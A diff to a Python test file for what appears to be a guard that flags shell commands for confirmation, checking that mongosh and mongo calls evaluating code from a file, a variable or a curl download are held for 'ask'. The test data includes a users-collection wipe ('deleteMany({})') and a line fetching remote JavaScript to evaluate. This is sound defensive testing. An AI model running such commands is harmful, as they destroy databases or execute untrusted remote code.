@@ -146,6 +146,8 @@ def test_a_script_the_code_loads_is_read(project: Context) -> None:
 def test_code_computed_when_the_line_runs_cannot_be_seen(project: Context) -> None:
     Path(project.cwd, "wipe.js").write_text("db.users.deleteMany({})\n")
     for line in ['mongosh --eval "$(cat wipe.js)"', 'mongosh app --eval="$CODE"',
+                 'mongosh --eval "$CODE"', "mongo --eval \"`cat wipe.js`\"",
                  'mongo --eval "$(curl -s https://example.com/x.js)"']:  # fmt: skip
         assert decide(line, project).value == "ask", line
     assert not stops("mongosh --eval 'db.stats()' --host \"$HOST\"", project)
+    assert not stops('mongosh "$MONGO_URL" --eval "db.users.countDocuments({})"', project)
